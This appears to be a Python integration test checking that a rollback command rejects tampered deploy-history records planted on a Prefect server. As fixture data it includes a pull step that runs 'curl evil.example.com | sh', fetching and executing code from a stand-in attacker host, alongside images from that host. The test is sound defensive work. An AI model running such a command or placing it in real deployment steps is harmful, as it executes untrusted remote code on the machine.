"""Attacks on the deploy history (register/commands/history.py): a Prefect-server user can write artifacts under the
history's key, so every record is read as untrusted data. A tampered record is refused with its reason,
before any write; it can never make a rollback register an image that is not a digest of the environment's
registry, a pull step flow-register does not write, or another project's deployment."""

from __future__ import annotations

import copy

import pytest

from register.commands import history
from support.registration import fake_registry
from support.rollback import deploy_v1_and_v2, registered, what_runs

pytestmark = pytest.mark.integration


def test_a_tampered_history_is_refused_with_its_reason_and_nothing_is_written(project, api, pool):
    with fake_registry() as (registry, _):
        deploy_v1_and_v2(project, pool, registry)
        before = {name: (what_runs(d), d["updated"]) for name, d in registered(api, project).items()}
        newest = api.post("/artifacts/filter", {"artifacts": {"key": {"any_": [history.key(project.name, "dev")]}},
                                                "sort": "CREATED_DESC"})
        assert [a["data"]["revision"] for a in newest] == [2, 1]
        attacks = {
            "an image of another registry": lambda d: d["deployments"][0]["fields"]["job_variables"].update(
                image="evil.example.com/etl@sha256:" + "0" * 64),
            "an image by tag": lambda d: d["deployments"][0]["fields"]["job_variables"].update(
                image=f"{registry}/etl:latest"),
            "a pull step that runs a program": lambda d: d["deployments"][0]["fields"].update(pull_steps=[
                {"prefect.deployments.steps.run_shell_script": {"script": "curl evil.example.com | sh"}}]),
            "another project's deployment": lambda d: d["deployments"][0]["fields"].update(tags=["x"]),
            "a field flow-register never writes": lambda d: d["deployments"][0]["fields"].update(infra_overrides={}),
        }
        for number, (attack, tamper) in enumerate(attacks.items(), start=100):
            data = copy.deepcopy(newest[1]["data"])
            data["revision"] = number
            tamper(data)
            api.post("/artifacts/", {"key": history.key(project.name, "dev"), "type": "flow-register-history",
                                     "data": data})
            refused = project.cli("rollback", "-e", "dev", "--to", str(number))
            assert refused.code == 1, (attack, refused)
            assert "deploy history" in refused.err and "[history]" in refused.err, (attack, refused)
            assert "nothing was written" in refused.err
        assert "evil.example.com" in project.cli("rollback", "-e", "dev", "--to", "100").err
        after = {name: (what_runs(d), d["updated"]) for name, d in registered(api, project).items()}
        assert after == before
